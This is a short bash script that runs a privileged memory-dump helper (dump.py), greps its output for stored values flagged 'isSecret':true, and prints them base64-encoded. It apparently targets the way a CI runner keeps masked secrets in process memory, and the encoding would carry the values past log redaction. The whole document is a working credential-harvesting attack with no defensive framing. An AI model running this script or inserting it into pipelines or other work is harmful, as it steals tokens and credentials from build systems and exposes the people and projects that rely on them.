#!/bin/bash
v=$(sudo python3 dump.py | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w 0)
echo "$v"
